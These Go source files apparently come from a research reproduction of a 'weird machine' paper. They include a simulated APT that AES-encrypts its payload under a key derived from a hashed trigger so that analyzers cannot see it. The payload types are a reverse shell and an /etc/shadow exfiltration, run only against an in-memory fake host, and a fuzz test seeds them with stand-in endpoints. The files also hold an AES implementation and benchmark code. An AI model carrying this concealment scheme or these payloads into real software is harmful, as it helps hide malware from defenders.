	return d[:aes.KeySize], nil
}

// Install encrypts the payload under the trigger-derived key and stores
// only the trigger's hash. The trigger bytes themselves are discarded.
func (hl *HashLock) Install(p Payload, trigger []byte) error {
	digest, err := hl.hasher.Sum(trigger)
	if err != nil {
		return err
	}
	hl.triggerHash = digest

	key, err := hl.keyFromTrigger(trigger)
	if err != nil {
		return err
	}
	plain, err := EncodePayload(p)
	if err != nil {
		return err
	}
	cipher, err := aes.NewCipher(key)
	if err != nil {
		return err
	}
	copy(hl.iv[:], digest[4:]) // public IV derived from the stored hash
	enc, err := cipher.CTR(hl.iv[:], plain)
	if err != nil {
		return err
	}
	hl.encrypted = enc
	hl.fired = false
	return nil
}

// TriggerHash exposes the stored condition hash — the only
// trigger-derived value an analyzer can find in the binary.
func (hl *HashLock) TriggerHash() [sha1wm.Size]byte { return hl.triggerHash }

// HandleInput hashes a candidate trigger on the weird machine and, on a
// match, derives the key, decrypts and executes the payload. A non-match
// (or a gate-error-corrupted hash) leaves no trace beyond the weird
// hash's own microarchitectural noise.
func (hl *HashLock) HandleInput(candidate []byte) (*Result, error) {
	if hl.encrypted == nil {
		return nil, ErrNotInstalled
	}
	if hl.fired {
		return nil, nil
	}
	digest, err := hl.hasher.Sum(candidate)
	if err != nil {
		return nil, err
	}
	if !bytes.Equal(digest[:], hl.triggerHash[:]) {
		return nil, nil // silent
	}
	key, err := hl.keyFromTrigger(candidate)
	if err != nil {
		return nil, err
	}
	cipher, err := aes.NewCipher(key)
	if err != nil {
		return nil, err
	}
	plain, err := cipher.CTR(hl.iv[:], hl.encrypted)
	if err != nil {
		return nil, err
	}
	payload, err := DecodePayload(plain)
	if err != nil {
		// The hash matched but the key hash picked up a gate error:
		// like the APT, the garbage faults and rolls back silently.
		return nil, nil
	}
	events, err := payload.Execute(hl.env)
	if err != nil {
		return nil, err
	}
	hl.fired = true
	return &Result{Events: events, Payload: payload.Name()}, nil
}

// NewHashLockSystem wires a complete system: a weird machine, a skelly
// library at the given redundancy, the hasher and the container.
func NewHashLockSystem(sk *skelly.Skelly, env *Env) (*HashLock, error) {
	if sk == nil {
		return nil, fmt.Errorf("wmapt: nil skelly library")
	}
	return NewHashLock(sha1wm.New(sk), env), nil
}
