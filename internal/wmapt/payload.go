// Package wmapt implements the paper's weird obfuscation system (§5.1):
// an advanced persistent threat whose trigger decoding runs on a
// TSX-based weird XOR circuit, whose payload is AES-encrypted under a
// key hidden behind a 160-bit one-time pad, and whose passive operation
// exposes nothing to an observer with full architectural visibility.
//
// Everything offensive is simulated: payloads act against an in-memory
// environment (a fake shadow file, a fake network) and only ever emit
// bookkeeping events. The *mechanism* — trigger → weird XOR → AES
// decrypt → execute — is the paper's, end to end.
package wmapt

import (
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"sort"
)

// Env is the simulated host a payload acts against: an in-memory file
// system and network. Tests and the analyzer inspect it to verify that
// nothing happens before the trigger and that the right thing happens
// after.
type Env struct {
	// Files maps paths to contents.
	Files map[string][]byte
	// Connections logs outbound connections ("addr:port").
	Connections []string
	// Exfiltrated logs transmitted data keyed by destination.
	Exfiltrated map[string][]byte
	// Shell records whether a (simulated) reverse shell was spawned.
	Shell bool
}

// NewEnv returns an environment seeded with a fake shadow password
// file, the target of the paper's exfiltration payload.
func NewEnv() *Env {
	return &Env{
		Files: map[string][]byte{
			"/etc/shadow": []byte(
				"root:$6$saltsalt$6f7c9a2e:19000:0:99999:7:::\n" +
					"daemon:*:18000:0:99999:7:::\n" +
					"alice:$6$pepper$aa11bb22:19100:0:99999:7:::\n"),
		},
		Exfiltrated: make(map[string][]byte),
	}
}

// Snapshot returns a deterministic digest of the environment's state,
// letting tests assert "nothing happened".
func (e *Env) Snapshot() string {
	paths := make([]string, 0, len(e.Files))
	for p := range e.Files {
		paths = append(paths, p)
	}
	sort.Strings(paths)
	s := fmt.Sprintf("conns=%v shell=%v exfil=%d files=%v",
		e.Connections, e.Shell, len(e.Exfiltrated), paths)
	return s
}

// Payload is a malicious action in the simulated environment.
type Payload interface {
	// Name identifies the payload type.
	Name() string
	// Execute performs the payload's action against env and returns
	// human-readable event lines.
	Execute(env *Env) ([]string, error)
}

// Payload type tags in the serialized form.
const (
	payloadReverseShell byte = 1
	payloadExfilShadow  byte = 2
)

// payloadMagic guards decoding: garbage produced by a wrong trigger
// essentially never carries it, so failed decodes model the paper's
// "near-immediate fault" inside the TSX block.
var payloadMagic = [4]byte{'U', 'W', 'M', 'P'}

// ReverseShell is the paper's reverse-shell payload: it "connects" to
// the attacker and marks a shell as spawned.
type ReverseShell struct {
	Addr string
	Port uint16
}

// Name implements Payload.
func (r ReverseShell) Name() string { return "reverse-shell" }

// Execute implements Payload.
func (r ReverseShell) Execute(env *Env) ([]string, error) {
	target := fmt.Sprintf("%s:%d", r.Addr, r.Port)
	env.Connections = append(env.Connections, target)
	env.Shell = true
	return []string{
		"socket/connect " + target,
		"dup2 stdio onto socket",
		"execl /bin/sh (simulated reverse shell)",
	}, nil
}

// ExfilShadow is the paper's shadow-file exfiltration payload.
type ExfilShadow struct {
	Path string // file to read, normally /etc/shadow
	Dest string // attacker endpoint
}

// Name implements Payload.
func (x ExfilShadow) Name() string { return "exfil-shadow" }

// Execute implements Payload.
func (x ExfilShadow) Execute(env *Env) ([]string, error) {
	data, ok := env.Files[x.Path]
	if !ok {
		return nil, fmt.Errorf("wmapt: %s not present in environment", x.Path)
	}
	env.Connections = append(env.Connections, x.Dest)
	env.Exfiltrated[x.Dest] = append([]byte(nil), data...)
	return []string{
		"open " + x.Path,
		fmt.Sprintf("send %d bytes to %s", len(data), x.Dest),
	}, nil
}

// EncodePayload serializes a payload with a magic header and CRC so
// that decryption under a wrong key is detected (the simulated analogue
// of executing garbage and faulting).
func EncodePayload(p Payload) ([]byte, error) {
	var body []byte
	var tag byte
	switch v := p.(type) {
	case ReverseShell:
		tag = payloadReverseShell
		body = make([]byte, 2+len(v.Addr)+2)
		binary.BigEndian.PutUint16(body, uint16(len(v.Addr)))
		copy(body[2:], v.Addr)
		binary.BigEndian.PutUint16(body[2+len(v.Addr):], v.Port)
	case ExfilShadow:
		tag = payloadExfilShadow
		body = make([]byte, 2+len(v.Path)+2+len(v.Dest))
		binary.BigEndian.PutUint16(body, uint16(len(v.Path)))
		copy(body[2:], v.Path)
		binary.BigEndian.PutUint16(body[2+len(v.Path):], uint16(len(v.Dest)))
		copy(body[4+len(v.Path):], v.Dest)
	default:
		return nil, fmt.Errorf("wmapt: unknown payload type %T", p)
	}
	out := make([]byte, 0, 4+1+2+len(body)+4)
	out = append(out, payloadMagic[:]...)
	out = append(out, tag)
	var l [2]byte
	binary.BigEndian.PutUint16(l[:], uint16(len(body)))
	out = append(out, l[:]...)
	out = append(out, body...)
	var crc [4]byte
	binary.BigEndian.PutUint32(crc[:], crc32.ChecksumIEEE(out))
	return append(out, crc[:]...), nil
}

// DecodePayload parses a serialized payload, failing on any corruption
// (wrong magic, bad CRC, truncation).
func DecodePayload(data []byte) (Payload, error) {
	if len(data) < 11 {
		return nil, fmt.Errorf("wmapt: payload too short")
	}
	if [4]byte(data[0:4]) != payloadMagic {
		return nil, fmt.Errorf("wmapt: bad payload magic")
	}
	bodyLen := int(binary.BigEndian.Uint16(data[5:7]))
	total := 7 + bodyLen + 4
	if len(data) < total {
		return nil, fmt.Errorf("wmapt: truncated payload")
	}
	want := binary.BigEndian.Uint32(data[7+bodyLen : total])
	if crc32.ChecksumIEEE(data[:7+bodyLen]) != want {
		return nil, fmt.Errorf("wmapt: payload checksum mismatch")
	}
	body := data[7 : 7+bodyLen]
	switch data[4] {
	case payloadReverseShell:
		if len(body) < 4 {
			return nil, fmt.Errorf("wmapt: short reverse-shell body")
		}
		n := int(binary.BigEndian.Uint16(body))
		if len(body) < 2+n+2 {
			return nil, fmt.Errorf("wmapt: short reverse-shell body")
		}
		return ReverseShell{
			Addr: string(body[2 : 2+n]),
			Port: binary.BigEndian.Uint16(body[2+n:]),
		}, nil
	case payloadExfilShadow:
		if len(body) < 4 {
			return nil, fmt.Errorf("wmapt: short exfil body")
		}
		n := int(binary.BigEndian.Uint16(body))
		if len(body) < 2+n+2 {
			return nil, fmt.Errorf("wmapt: short exfil body")
		}
		m := int(binary.BigEndian.Uint16(body[2+n:]))
		if len(body) < 4+n+m {
			return nil, fmt.Errorf("wmapt: short exfil body")
		}
		return ExfilShadow{
			Path: string(body[2 : 2+n]),
			Dest: string(body[4+n : 4+n+m]),
		}, nil
	default:
		return nil, fmt.Errorf("wmapt: unknown payload tag %d", data[4])
	}
}
