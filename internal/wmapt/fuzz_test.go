package wmapt

import "testing"

// FuzzDecodePayload checks the payload decoder never panics and never
// accepts bytes that fail to round trip — the property the trigger
// path's "garbage faults inside the TSX block" behaviour rests on.
func FuzzDecodePayload(f *testing.F) {
	good, _ := EncodePayload(ReverseShell{Addr: "10.0.0.1", Port: 4444})
	f.Add(good)
	exfil, _ := EncodePayload(ExfilShadow{Path: "/etc/shadow", Dest: "c2:80"})
	f.Add(exfil)
	f.Add([]byte("UWMP garbage"))
	f.Add([]byte{})
	f.Fuzz(func(t *testing.T, data []byte) {
		p, err := DecodePayload(data)
		if err != nil {
			return
		}
		re, err := EncodePayload(p)
		if err != nil {
			t.Fatalf("accepted payload failed to re-encode: %v", err)
		}
		p2, err := DecodePayload(re)
		if err != nil || p2 != p {
			t.Fatalf("payload round trip unstable: %#v vs %#v (%v)", p, p2, err)
		}
	})
}
