package aes

import (
	"bytes"
	"encoding/hex"
	"testing"
	"testing/quick"
)

func unhex(t *testing.T, s string) []byte {
	t.Helper()
	b, err := hex.DecodeString(s)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestFIPS197Vector is Appendix C.1 of FIPS-197.
func TestFIPS197Vector(t *testing.T) {
	key := unhex(t, "000102030405060708090a0b0c0d0e0f")
	pt := unhex(t, "00112233445566778899aabbccddeeff")
	want := unhex(t, "69c4e0d86a7b0430d8cdb78070b4c55a")
	c, err := NewCipher(key)
	if err != nil {
		t.Fatal(err)
	}
	got := make([]byte, 16)
	c.EncryptBlock(got, pt)
	if !bytes.Equal(got, want) {
		t.Fatalf("encrypt = %x, want %x", got, want)
	}
	dec := make([]byte, 16)
	c.DecryptBlock(dec, got)
	if !bytes.Equal(dec, pt) {
		t.Fatalf("decrypt = %x, want %x", dec, pt)
	}
}

// TestAppendixBVector is the FIPS-197 Appendix B example.
func TestAppendixBVector(t *testing.T) {
	key := unhex(t, "2b7e151628aed2a6abf7158809cf4f3c")
	pt := unhex(t, "3243f6a8885a308d313198a2e0370734")
	want := unhex(t, "3925841d02dc09fbdc118597196a0b32")
	c, err := NewCipher(key)
	if err != nil {
		t.Fatal(err)
	}
	got := make([]byte, 16)
	c.EncryptBlock(got, pt)
	if !bytes.Equal(got, want) {
		t.Fatalf("encrypt = %x, want %x", got, want)
	}
}

func TestEncryptDecryptRoundTrip(t *testing.T) {
	f := func(key, pt [16]byte) bool {
		c, err := NewCipher(key[:])
		if err != nil {
			return false
		}
		var ct, rt [16]byte
		c.EncryptBlock(ct[:], pt[:])
		c.DecryptBlock(rt[:], ct[:])
		return rt == pt && ct != pt
	}
	if err := quick.Check(f, nil); err != nil {
		t.Error(err)
	}
}

func TestCTRRoundTripAndLengths(t *testing.T) {
	key := unhex(t, "2b7e151628aed2a6abf7158809cf4f3c")
	c, err := NewCipher(key)
	if err != nil {
		t.Fatal(err)
	}
	iv := unhex(t, "f0f1f2f3f4f5f6f7f8f9fafbfcfdfeff")
	for _, n := range []int{0, 1, 15, 16, 17, 31, 32, 100} {
		src := bytes.Repeat([]byte{0x5a}, n)
		ct, err := c.CTR(iv, src)
		if err != nil {
			t.Fatal(err)
		}
		rt, err := c.CTR(iv, ct)
		if err != nil {
			t.Fatal(err)
		}
		if !bytes.Equal(rt, src) {
			t.Errorf("CTR round trip failed for %d bytes", n)
		}
		if n >= 16 && bytes.Equal(ct, src) {
			t.Errorf("CTR left %d-byte input unchanged", n)
		}
	}
}

// TestNISTCTRVector checks CTR keystream against NIST SP 800-38A F.5.1.
func TestNISTCTRVector(t *testing.T) {
	key := unhex(t, "2b7e151628aed2a6abf7158809cf4f3c")
	iv := unhex(t, "f0f1f2f3f4f5f6f7f8f9fafbfcfdfeff")
	pt := unhex(t, "6bc1bee22e409f96e93d7e117393172a")
	want := unhex(t, "874d6191b620e3261bef6864990db6ce")
	c, err := NewCipher(key)
	if err != nil {
		t.Fatal(err)
	}
	got, err := c.CTR(iv, pt)
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(got, want) {
		t.Fatalf("CTR = %x, want %x", got, want)
	}
}

func TestBadInputs(t *testing.T) {
	if _, err := NewCipher(make([]byte, 15)); err == nil {
		t.Error("expected error for short key")
	}
	c, _ := NewCipher(make([]byte, 16))
	if _, err := c.CTR(make([]byte, 8), []byte("x")); err == nil {
		t.Error("expected error for short IV")
	}
}
