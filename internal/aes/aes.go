// Package aes implements AES-128 from scratch (FIPS-197): key
// expansion, single-block encrypt/decrypt, and CTR-mode streaming. The
// weird obfuscation system (§5.1) encrypts its payload under a random
// AES-128 key whose value is itself hidden behind the one-time-pad
// trigger; this package is that substrate, implemented locally so the
// repository carries every dependency the paper's system needs.
package aes

import (
	"encoding/binary"
	"fmt"
)

// KeySize is the AES-128 key length in bytes.
const KeySize = 16

// BlockSize is the AES block length in bytes.
const BlockSize = 16

var (
	sbox    [256]byte
	invSbox [256]byte
)

// init computes the S-box from the multiplicative inverse in GF(2⁸)
// followed by the affine transform, rather than embedding tables.
func init() {
	// Build inverses via logs over the generator 3.
	var logT, expT [256]byte
	p := byte(1)
	for i := 0; i < 255; i++ {
		expT[i] = p
		logT[p] = byte(i)
		// p *= 3 in GF(2^8).
		p ^= xtime(p)
	}
	inv := func(b byte) byte {
		if b == 0 {
			return 0
		}
		return expT[(255-int(logT[b]))%255]
	}
	for i := 0; i < 256; i++ {
		x := inv(byte(i))
		// Affine transform: s = x ^ rot1 ^ rot2 ^ rot3 ^ rot4 ^ 0x63.
		s := x ^ rotl8(x, 1) ^ rotl8(x, 2) ^ rotl8(x, 3) ^ rotl8(x, 4) ^ 0x63
		sbox[i] = s
		invSbox[s] = byte(i)
	}
}

func rotl8(b byte, n uint) byte { return b<<n | b>>(8-n) }

// xtime multiplies by x (i.e. 2) in GF(2⁸).
func xtime(b byte) byte {
	if b&0x80 != 0 {
		return b<<1 ^ 0x1b
	}
	return b << 1
}

// mul multiplies two field elements.
func mul(a, b byte) byte {
	var p byte
	for b != 0 {
		if b&1 != 0 {
			p ^= a
		}
		a = xtime(a)
		b >>= 1
	}
	return p
}

// Cipher is an expanded AES-128 key schedule.
type Cipher struct {
	rk [11][16]byte // round keys, column-major like the state
}

// NewCipher expands a 16-byte key.
func NewCipher(key []byte) (*Cipher, error) {
	if len(key) != KeySize {
		return nil, fmt.Errorf("aes: key must be %d bytes, got %d", KeySize, len(key))
	}
	var w [44][4]byte
	for i := 0; i < 4; i++ {
		copy(w[i][:], key[4*i:4*i+4])
	}
	rcon := byte(1)
	for i := 4; i < 44; i++ {
		t := w[i-1]
		if i%4 == 0 {
			// RotWord + SubWord + Rcon.
			t = [4]byte{sbox[t[1]], sbox[t[2]], sbox[t[3]], sbox[t[0]]}
			t[0] ^= rcon
			rcon = xtime(rcon)
		}
		for j := 0; j < 4; j++ {
			w[i][j] = w[i-4][j] ^ t[j]
		}
	}
	c := &Cipher{}
	for r := 0; r < 11; r++ {
		for col := 0; col < 4; col++ {
			copy(c.rk[r][4*col:4*col+4], w[4*r+col][:])
		}
	}
	return c, nil
}

func addRoundKey(state *[16]byte, rk *[16]byte) {
	for i := range state {
		state[i] ^= rk[i]
	}
}

func subBytes(state *[16]byte) {
	for i := range state {
		state[i] = sbox[state[i]]
	}
}

func invSubBytes(state *[16]byte) {
	for i := range state {
		state[i] = invSbox[state[i]]
	}
}

// shiftRows rotates row r left by r (state is column-major: index =
// 4*col + row).
func shiftRows(state *[16]byte) {
	var t [16]byte
	for row := 0; row < 4; row++ {
		for col := 0; col < 4; col++ {
			t[4*col+row] = state[4*((col+row)%4)+row]
		}
	}
	*state = t
}

func invShiftRows(state *[16]byte) {
	var t [16]byte
	for row := 0; row < 4; row++ {
		for col := 0; col < 4; col++ {
			t[4*((col+row)%4)+row] = state[4*col+row]
		}
	}
	*state = t
}

func mixColumns(state *[16]byte) {
	for col := 0; col < 4; col++ {
		c := state[4*col : 4*col+4]
		a0, a1, a2, a3 := c[0], c[1], c[2], c[3]
		c[0] = mul(a0, 2) ^ mul(a1, 3) ^ a2 ^ a3
		c[1] = a0 ^ mul(a1, 2) ^ mul(a2, 3) ^ a3
		c[2] = a0 ^ a1 ^ mul(a2, 2) ^ mul(a3, 3)
		c[3] = mul(a0, 3) ^ a1 ^ a2 ^ mul(a3, 2)
	}
}

func invMixColumns(state *[16]byte) {
	for col := 0; col < 4; col++ {
		c := state[4*col : 4*col+4]
		a0, a1, a2, a3 := c[0], c[1], c[2], c[3]
		c[0] = mul(a0, 14) ^ mul(a1, 11) ^ mul(a2, 13) ^ mul(a3, 9)
		c[1] = mul(a0, 9) ^ mul(a1, 14) ^ mul(a2, 11) ^ mul(a3, 13)
		c[2] = mul(a0, 13) ^ mul(a1, 9) ^ mul(a2, 14) ^ mul(a3, 11)
		c[3] = mul(a0, 11) ^ mul(a1, 13) ^ mul(a2, 9) ^ mul(a3, 14)
	}
}

// EncryptBlock encrypts one 16-byte block; dst and src may overlap.
func (c *Cipher) EncryptBlock(dst, src []byte) {
	var s [16]byte
	copy(s[:], src)
	addRoundKey(&s, &c.rk[0])
	for r := 1; r <= 9; r++ {
		subBytes(&s)
		shiftRows(&s)
		mixColumns(&s)
		addRoundKey(&s, &c.rk[r])
	}
	subBytes(&s)
	shiftRows(&s)
	addRoundKey(&s, &c.rk[10])
	copy(dst, s[:])
}

// DecryptBlock decrypts one 16-byte block; dst and src may overlap.
func (c *Cipher) DecryptBlock(dst, src []byte) {
	var s [16]byte
	copy(s[:], src)
	addRoundKey(&s, &c.rk[10])
	for r := 9; r >= 1; r-- {
		invShiftRows(&s)
		invSubBytes(&s)
		addRoundKey(&s, &c.rk[r])
		invMixColumns(&s)
	}
	invShiftRows(&s)
	invSubBytes(&s)
	addRoundKey(&s, &c.rk[0])
	copy(dst, s[:])
}

// CTR encrypts or decrypts src with a counter keystream starting at the
// given 16-byte IV (the operation is its own inverse). The wm_apt
// payload uses CTR so arbitrary payload lengths need no padding.
func (c *Cipher) CTR(iv []byte, src []byte) ([]byte, error) {
	if len(iv) != BlockSize {
		return nil, fmt.Errorf("aes: CTR iv must be %d bytes, got %d", BlockSize, len(iv))
	}
	var ctr [16]byte
	copy(ctr[:], iv)
	out := make([]byte, len(src))
	var ks [16]byte
	for i := 0; i < len(src); i += BlockSize {
		c.EncryptBlock(ks[:], ctr[:])
		for j := i; j < len(src) && j < i+BlockSize; j++ {
			out[j] = src[j] ^ ks[j-i]
		}
		// Increment the low 64 bits of the counter, big-endian.
		lo := binary.BigEndian.Uint64(ctr[8:])
		binary.BigEndian.PutUint64(ctr[8:], lo+1)
	}
	return out, nil
}
