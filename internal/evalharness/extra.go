package evalharness

import (
	"fmt"

	"uwm/internal/benchreport"
	"uwm/internal/core"
	"uwm/internal/covert"
	"uwm/internal/noise"
)

// ExtraChannels measures every Table 1 weird register as a covert
// channel (§3.1's framing: "two entities construct a communication
// channel by writing and reading to and from a common WR"). Not a paper
// table — an extension experiment quantifying the storage primitives
// the paper lists qualitatively: bandwidth at the simulated 2.3 GHz,
// error rate, and the cycle cost of one bit.
func ExtraChannels(p Params) (*Table, error) {
	p.normalize()
	m, err := core.NewMachine(p.observe(core.Options{
		Seed:            p.Seed,
		Noise:           noise.PaperIsolated(),
		TrainIterations: 4,
	}))
	if err != nil {
		return nil, err
	}
	t := &Table{
		Title:  "Extra: Table 1 weird registers as covert channels",
		Header: []string{"Register", "Bits", "Errors", "Error Rate", "Cycles/bit", "Bits/s @2.3GHz"},
		Notes: []string{
			"one write+read per bit, no redundancy; §3.1's covert-channel framing of each WR",
			"contention registers are volatile: they trade bandwidth and reliability for stealth",
		},
	}

	type wrCase struct {
		name  string
		build func() (core.WeirdRegister, error)
	}
	cases := []wrCase{
		{"d-cache (DC-WR)", func() (core.WeirdRegister, error) { return core.NewDCWR(m) }},
		{"i-cache (IC-WR)", func() (core.WeirdRegister, error) { return core.NewICWR(m) }},
		{"branch predictor (BP-WR)", func() (core.WeirdRegister, error) { return core.NewBPWR(m) }},
		{"BTB", func() (core.WeirdRegister, error) { return core.NewBTBWR(m) }},
		{"mul contention", func() (core.WeirdRegister, error) { return core.NewMulWR(m) }},
		{"ROB contention", func() (core.WeirdRegister, error) { return core.NewROBWR(m) }},
	}

	bits := p.Table8Ops / 8
	if bits < 500 {
		bits = 500
	}
	rng := noise.NewRNG(p.Seed + 21)
	for _, c := range cases {
		wr, err := c.build()
		if err != nil {
			return nil, fmt.Errorf("evalharness: building %s: %w", c.name, err)
		}
		rep, err := covert.Measure(m, covert.NewChannel(wr, 1), bits, rng)
		if err != nil {
			return nil, err
		}
		t.AddRow(c.name,
			fmt.Sprintf("%d", rep.Bits),
			fmt.Sprintf("%d", rep.Errors),
			fmt.Sprintf("%.5f", rep.ErrorRate()),
			fmt.Sprintf("%.0f", float64(rep.Cycles)/float64(rep.Bits)),
			fmt.Sprintf("%.0f", rep.BitsPerSecond(p.ClockHz)))
		t.AddMetric(benchreport.Metric{Name: c.name + "/error_rate", Unit: "ratio",
			Better: benchreport.LowerIsBetter, Value: rep.ErrorRate()})
		t.AddMetric(benchreport.Metric{Name: c.name + "/bits_per_sec", Unit: "bit/s",
			Better: benchreport.HigherIsBetter, Value: rep.BitsPerSecond(p.ClockHz)})
	}
	return t, nil
}
