package evalharness

import (
	"fmt"

	"uwm/internal/benchreport"
)

// RunResult is the uniform output of one registry experiment: the
// rendered human-readable text plus the machine-readable metrics that
// back it. cmd/uwm-bench prints Text and serialises Metrics into the
// BENCH_*.json report.
type RunResult struct {
	Name    string
	Text    string
	Metrics []benchreport.Metric
}

// Registered is one runnable experiment. Table/Figure mirror the
// uwm-bench selection flags; both are zero for the named extras
// (ablations, extra channels).
type Registered struct {
	Name          string
	Table, Figure int
	Run           func(Params) (*RunResult, error)
}

func fromTable(name string, f func(Params) (*Table, error)) func(Params) (*RunResult, error) {
	return func(p Params) (*RunResult, error) {
		t, err := f(p)
		if err != nil {
			return nil, err
		}
		return &RunResult{Name: name, Text: t.Render(), Metrics: t.Metrics}, nil
	}
}

// Registry returns every runnable experiment in canonical order. The
// list is rebuilt per call so entries can be run concurrently-safely
// and so callers may filter it destructively.
func Registry() []Registered {
	return []Registered{
		{Name: "table2", Table: 2, Run: fromTable("table2", Table2)},
		{Name: "table3", Table: 3, Run: func(p Params) (*RunResult, error) {
			t, _, err := Table3(p)
			if err != nil {
				return nil, err
			}
			return &RunResult{Name: "table3", Text: t.Render(), Metrics: t.Metrics}, nil
		}},
		{Name: "table4", Table: 4, Run: fromTable("table4", Table4)},
		{Name: "table5", Table: 5, Run: fromTable("table5", Table5)},
		{Name: "table6", Table: 6, Run: fromTable("table6", Table6)},
		{Name: "table7", Table: 7, Run: fromTable("table7", Table7)},
		{Name: "table8", Table: 8, Run: fromTable("table8", Table8)},
		{Name: "figure6", Figure: 6, Run: func(p Params) (*RunResult, error) {
			// Figure 6 is a histogram view of Table 3's trigger counts;
			// the run is deterministic, so regenerating them is exact.
			_, counts, err := Table3(p)
			if err != nil {
				return nil, err
			}
			return &RunResult{Name: "figure6", Text: Figure6(counts)}, nil
		}},
		{Name: "figure7", Figure: 7, Run: func(p Params) (*RunResult, error) {
			f, err := FigureKDE(p, "AND")
			if err != nil {
				return nil, err
			}
			return &RunResult{Name: "figure7", Text: f.Text, Metrics: f.Metrics}, nil
		}},
		{Name: "figure8", Figure: 8, Run: func(p Params) (*RunResult, error) {
			f, err := FigureKDE(p, "OR")
			if err != nil {
				return nil, err
			}
			return &RunResult{Name: "figure8", Text: f.Text, Metrics: f.Metrics}, nil
		}},
		{Name: "ablations", Run: fromTable("ablations", Ablations)},
		{Name: "extra", Run: fromTable("extra", ExtraChannels)},
		{Name: "engine", Run: fromTable("engine", EngineThroughput)},
		{Name: "health", Run: fromTable("health", GateHealth)},
		{Name: "circuit", Run: fromTable("circuit", CircuitThroughput)},
	}
}

// RunExperiment runs one registry entry by name.
func RunExperiment(name string, p Params) (*RunResult, error) {
	for _, r := range Registry() {
		if r.Name == name {
			return r.Run(p)
		}
	}
	return nil, fmt.Errorf("evalharness: unknown experiment %q", name)
}
