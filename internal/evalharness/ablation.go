package evalharness

import (
	"fmt"

	"uwm/internal/benchreport"
	"uwm/internal/core"
	"uwm/internal/cpu"
	"uwm/internal/noise"
)

// Ablations re-runs gate accuracy under deliberately degraded
// configurations, quantifying the design choices the paper discusses:
//
//   - no core isolation (§6.1's setup matters): paper-noise outliers and
//     evictions at busy-machine rates;
//   - a collapsed TSX window (8 cycles): the §4 race needs room for the
//     dependent chain to issue, so every output collapses to 0;
//   - a generous TSX window (400 cycles, longer than a DRAM miss): the
//     chain completes even when its operands missed, so the race carries
//     no information and outputs collapse to 1 — the window must sit
//     between the hit and miss latencies for the gate to compute at all;
//   - a gshare (history-hashed) predictor: §4 warns that pattern-
//     detecting BPUs resist repeated mistraining;
//   - single-iteration training: BP-WR writes that barely move the
//     2-bit counters.
func Ablations(p Params) (*Table, error) {
	p.normalize()
	t := &Table{
		Title:  "Ablations: gate accuracy under degraded configurations",
		Header: []string{"Variant", "Gate", "Operations", "Accuracy"},
		Notes: []string{
			"baseline rows use the calibrated paper configuration",
		},
	}

	type variant struct {
		name  string
		opts  func() (core.Options, error)
		gates string // "tsx", "bp" or "both"
	}

	variants := []variant{
		{
			name: "baseline (paper)",
			opts: func() (core.Options, error) {
				return core.Options{Seed: p.Seed, Noise: noise.Paper(), TrainIterations: 4}, nil
			},
			gates: "both",
		},
		{
			name: "busy machine (no §6.1 isolation)",
			opts: func() (core.Options, error) {
				return core.Options{Seed: p.Seed, Noise: noise.Noisy(), TrainIterations: 4}, nil
			},
			gates: "both",
		},
		{
			name: "TSX window 8 cycles",
			opts: func() (core.Options, error) {
				cfg := cpu.DefaultConfig()
				// Shorter than the dependent chain's issue time: the race
				// is unwinnable and every gate output collapses to 0.
				cfg.TSXWindow = 8
				return core.Options{Seed: p.Seed, Noise: noise.Paper(), CPU: &cfg, TrainIterations: 4}, nil
			},
			gates: "tsx",
		},
		{
			name: "TSX window 400 cycles",
			opts: func() (core.Options, error) {
				cfg := cpu.DefaultConfig()
				cfg.TSXWindow = 400
				return core.Options{Seed: p.Seed, Noise: noise.Paper(), CPU: &cfg, TrainIterations: 4}, nil
			},
			gates: "tsx",
		},
		{
			name: "gshare predictor",
			opts: func() (core.Options, error) {
				cfg := cpu.DefaultConfig()
				cfg.UseGShare = true
				return core.Options{Seed: p.Seed, Noise: noise.Paper(), CPU: &cfg, TrainIterations: 4}, nil
			},
			gates: "bp",
		},
		{
			name: "single-iteration training",
			opts: func() (core.Options, error) {
				return core.Options{Seed: p.Seed, Noise: noise.Paper(), TrainIterations: 1}, nil
			},
			gates: "bp",
		},
	}

	ops := p.Table8Ops / 4
	if ops < 500 {
		ops = 500
	}
	for i, v := range variants {
		opts, err := v.opts()
		if err != nil {
			return nil, err
		}
		m, err := core.NewMachine(p.observe(opts))
		if err != nil {
			return nil, err
		}
		// Only the baseline's accuracy is a quality target; degraded
		// variants exist to be bad, so their metrics stay neutral.
		better := benchreport.Neutral
		if i == 0 {
			better = benchreport.HigherIsBetter
		}
		rng := noise.NewRNG(p.Seed + 77)
		if v.gates == "bp" || v.gates == "both" {
			g, err := core.NewBPAnd(m)
			if err != nil {
				return nil, err
			}
			rep, err := core.MeasureBPGate(g, ops, rng)
			if err != nil {
				return nil, err
			}
			t.AddRow(v.name, "AND (bp/icache)", fmt.Sprintf("%d", ops), fmt.Sprintf("%.5f", rep.Accuracy()))
			t.AddMetric(benchreport.Metric{Name: v.name + "/AND_bp/accuracy", Unit: "ratio",
				Better: better, Value: rep.Accuracy()})
		}
		if v.gates == "tsx" || v.gates == "both" {
			g, err := core.NewTSXAnd(m)
			if err != nil {
				return nil, err
			}
			rep, err := core.MeasureTSXGate(g, ops, rng)
			if err != nil {
				return nil, err
			}
			t.AddRow(v.name, "TSX_AND", fmt.Sprintf("%d", ops), fmt.Sprintf("%.5f", rep.Accuracy()))
			t.AddMetric(benchreport.Metric{Name: v.name + "/TSX_AND/accuracy", Unit: "ratio",
				Better: better, Value: rep.Accuracy()})
		}
	}
	return t, nil
}
