package evalharness

import (
	"fmt"

	"uwm/internal/benchreport"
	"uwm/internal/core"
	"uwm/internal/noise"
	"uwm/internal/sha1wm"
	"uwm/internal/skelly"
	"uwm/internal/stats"
	"uwm/internal/wmapt"
)

// paperTable2 holds the paper's reported throughput/accuracy for the
// comparison column of Table 2.
var paperTable2 = map[string]struct {
	opsPerSec float64
	accuracy  float64
}{
	"AND":        {66_666, 1.000},
	"OR":         {17_543, 0.980},
	"NAND":       {76_923, 1.000},
	"AND_AND_OR": {12_345, 0.994},
	"TSX_AND":    {1_692_047, 0.985},
	"TSX_OR":     {1_831_501, 0.979},
	"TSX_ASSIGN": {2_380_952, 0.985},
	"TSX_XOR":    {60_020, 0.992},
}

// Table2 reproduces the gate performance/accuracy overview. BP gates
// run with the full mistraining loop (TrainIterations), which is what
// makes them an order of magnitude slower than the TSX family — the
// paper's headline shape.
func Table2(p Params) (*Table, error) {
	p.normalize()
	m, err := core.NewMachine(p.observe(core.Options{
		Seed:            p.Seed,
		Noise:           noise.PaperIsolated(),
